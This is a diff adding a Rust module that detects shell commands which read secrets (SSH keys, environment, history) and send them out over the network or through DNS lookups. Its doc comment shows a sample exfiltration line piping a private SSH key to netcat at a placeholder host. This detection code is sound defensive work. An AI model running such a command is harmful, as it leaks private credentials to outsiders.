@@ -1,0 +1,39 @@
+//! Secrets that are read and sent by one text: `cat ~/.ssh/id_ed25519 | nc HOST 1`.
+
+use super::writes::is_credential;
+use crate::program::table::ProgramTable;
+use crate::program::table::call::Call;
+use crate::program::table::row::Prints;
+use crate::shell::word::{UNKNOWN, Word};
+
+/// Whether a command reads a file that holds secrets, or prints the environment.
+pub(crate) fn reads_secrets(table: &ProgramTable, program: &str, args: &[Word]) -> bool {
+    if program == "printenv"
+        || (program == "history" && args.is_empty())
+        || (program == "env" && args.is_empty())
+    {
+        return true;
+    }
+    let reads = table.row(program).is_some_and(|row| row.reads_files);
+    reads
+        && args
+            .iter()
+            .any(|word| is_credential(table.files(), &word.text))
+}
+
+/// Whether a command sends what it reads, or what its words hold.
+pub(crate) fn sends(table: &ProgramTable, program: &str, args: &[Word]) -> bool {
+    let Some(row) = table.row(program) else {
+        return false;
+    };
+    let mut call = Call::new(row, args);
+    if call.first(&row.sends).is_some() {
+        return true;
+    }
+    // A secret may stand in the address itself.
+    let asks_others = row.prints == Some(Prints::Fetched)
+        || matches!(program, "dig" | "nslookup" | "host" | "ping");
+    let options = call.options(None);
+    let mut operands = options.operands.iter();
+    asks_others && operands.any(|(_, word)| word.contains(UNKNOWN))
+}
